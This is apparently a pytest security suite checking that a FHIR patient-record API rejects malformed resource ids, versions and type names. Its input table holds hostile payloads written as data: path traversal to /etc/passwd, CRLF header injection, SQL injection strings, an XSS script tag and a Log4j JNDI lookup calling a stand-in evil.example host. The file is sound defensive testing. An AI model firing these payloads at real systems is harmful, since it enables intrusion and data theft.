"""Ids and addresses that try to be something else."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import httpx
import pytest

ENCODED = {
    "dot": "%2E",
    "dots": "%2E%2E",
    "dots raw": "..",
    "slash": "a%2Fb",
    "up": "..%2F..%2Fetc%2Fpasswd",
    "up twice encoded": "%252e%252e%252f",
    "backslash": "..%5C..%5Cwin.ini",
    "zero": "a%00b",
    "line end": "a%0D%0ALocation:%20b",
    "65 characters": "a" * 65,
    "5,000 characters": "a" * 5000,
    "emoji": "%F0%9F%98%80",
    "full-width dots": "%EF%BC%8E%EF%BC%8E",
    "full-width digit": "%EF%BC%91",
    "look-alike": "p%D0%B0tient",
    "right-to-left": "%E2%80%AEa",
    "invalid UTF-8": "%FF%FE",
    "overlong UTF-8": "%C0%AF",
    "cut escape": "%E0%A4%A",
    "space": "a%20b",
    "semicolon": "a;b",
    "quote": "a'%20OR%20'1'='1",
    "sql comment": "a'--",
    "dollar": "$reindex",
    "underscore": "_history_",
    "star": "*",
    "template": "{id}",
    "html": "%3Cscript%3Ealert(1)%3C/script%3E",
    "log4j": "$%7Bjndi:ldap:%2F%2Fevil.example%7D",
}


def raw(edge: Any, method: str, path: str, content: bytes = b"") -> tuple[int, bytes]:
    """Send a path as it stands; clients would put it right."""
    head = (
        f"{method} {path} HTTP/1.1\r\nHost: edge\r\nConnection: close\r\n"
        f"Authorization: Bearer {edge.setting.TOKENS['ehr']}\r\n"
        f"Content-Type: application/fhir+json\r\nContent-Length: {len(content)}\r\n\r\n"
    )
    answer: bytes = edge.raw(head.encode() + content, wait_s=10)
    return int(answer.split(b" ", 2)[1]), answer


@pytest.mark.requirement("DX-ATK-05")
@pytest.mark.parametrize("written", ENCODED.values(), ids=ENCODED)
def test_an_id_that_is_none_reads_nothing(edge: Any, written: str) -> None:
    for path in (
        f"/fhir/Patient/{written}",
        f"/fhir/Patient/{written}/_history/1",
        f"/fhir/{written}/1",
        f"/fhir/Patient/1/_history/{written}",
    ):
        status, answer = raw(edge, "GET", path)
        assert status in (400, 404, 405), (path, status)
        assert b"Traceback" not in answer and b"root:" not in answer


@pytest.mark.requirement("DX-ATK-05")
@pytest.mark.parametrize("written", ENCODED.values(), ids=ENCODED)
def test_an_id_that_is_none_is_not_created(edge: Any, written: str) -> None:
    body = b'{"resourceType":"Patient","id":"%s"}' % written.encode()
    status, _ = raw(edge, "PUT", f"/fhir/Patient/{written}", body)
    assert status in (400, 404, 405, 422), status
    status, _ = raw(edge, "DELETE", f"/fhir/Patient/{written}")
    assert status in (400, 404, 405), status


@pytest.mark.requirement("DX-ATK-05")
@pytest.mark.parametrize("written", ENCODED.values(), ids=ENCODED)
def test_a_static_file_is_one_of_ours(edge: Any, written: str) -> None:
    for path in (f"/static/{written}", f"/static/../{written}", f"/static/%2E%2E/{written}"):
        status, answer = raw(edge, "GET", path)
        assert status in (400, 401, 404, 405), path
        assert b"root:" not in answer and b"import " not in answer


@pytest.mark.requirement("DX-ATK-05")
def test_the_id_in_the_content_is_that_of_the_address(http: httpx.Client) -> None:
    """R4 http, 3.1.0.4: otherwise 400."""
    for body in (
        {"resourceType": "Patient", "id": "another"},
        {"resourceType": "Patient"},
        {"resourceType": "Observation", "id": "mine"},
    ):
        assert http.put("/fhir/Patient/mine", json=body).status_code in (400, 422)
    assert http.get("/fhir/Patient/mine").status_code == 404


@pytest.mark.requirement("DX-ATK-05")
def test_the_longest_id_there_is_works(http: httpx.Client) -> None:
    longest = "A-z.9" + "a" * 59
    body = {"resourceType": "Patient", "id": longest}
    assert http.put(f"/fhir/Patient/{longest}", json=body).status_code == 201
    assert http.get(f"/fhir/Patient/{longest}").json()["id"] == longest
    assert http.get(f"/fhir/Patient/{longest.lower()}").status_code == 404, "ids have case"


@pytest.mark.requirement("DX-ATK-05")
@pytest.mark.parametrize("version", ["0", "-1", "1e3", "1.0", "9" * 30, "%D9%A1", "latest"])
def test_a_version_that_is_none_reads_nothing(http: httpx.Client, version: str) -> None:
    born = {"resourceType": "Patient", "id": "versions"}
    assert http.put("/fhir/Patient/versions", json=born).status_code in (200, 201)
    answer = http.get(f"/fhir/Patient/versions/_history/{version}")
    assert answer.status_code in (400, 404)


@pytest.mark.requirement("DX-ATK-05")
@pytest.mark.parametrize(
    "version", ['W/"0"', 'W/"-1"', 'W/"x"', "*" * 5000, 'W/"' + "9" * 400 + '"', "\u0661"]
)
def test_a_version_that_is_none_changes_nothing(http: httpx.Client, version: str) -> None:
    address, born = "/fhir/Patient/matched", {"resourceType": "Patient", "id": "matched"}
    assert http.put(address, json=born).status_code in (200, 201)
    headers = {"If-Match": version.encode()}
    answer = http.put(address, json={**born, "active": True}, headers=headers)
    assert answer.status_code in (400, 412)
    assert "active" not in http.get(address).json()


@pytest.mark.requirement("DX-ATK-05")
def test_types_are_written_as_the_standard_writes_them(http: httpx.Client) -> None:
    for kind in ("patient", "PATIENT", "Patients", "Resource", "DomainResource", "Element", "_all"):
        assert http.get(f"/fhir/{kind}").status_code == 404
        body = {"resourceType": kind}
        assert http.post(f"/fhir/{quote(kind)}", json=body).status_code in (400, 404, 422)
